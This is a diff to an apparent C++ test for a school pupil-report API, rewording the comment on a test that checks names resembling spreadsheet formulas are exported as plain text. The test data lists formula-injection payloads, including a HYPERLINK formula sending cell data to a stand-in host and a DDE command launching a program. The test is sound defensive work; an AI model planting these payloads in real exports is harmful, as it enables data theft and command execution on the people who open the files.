@@ -222,7 +222,7 @@ TEST_F(PupilReportTest, RejectedRowsExportAsCsvForTheSchool) {
   EXPECT_EQ(Get(server_->port(), "/api/v1/schools/101002/pupils?status=rejected,nonsense", staff_).status, 400);
 }
 
-// Issue 32, row 8: names that a spreadsheet would run as formulas come back as text in the export.
+// A threat-model row: names that a spreadsheet would run as formulas come back as text in the export.
 TEST_F(PupilReportTest, FormulasInNamesAreExportedAsText) {
   const std::vector<std::string> names{R"(=HYPERLINK("http://evil.example/?x="&A1,"Klik"))", "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3"};
   std::string report = kHeader;
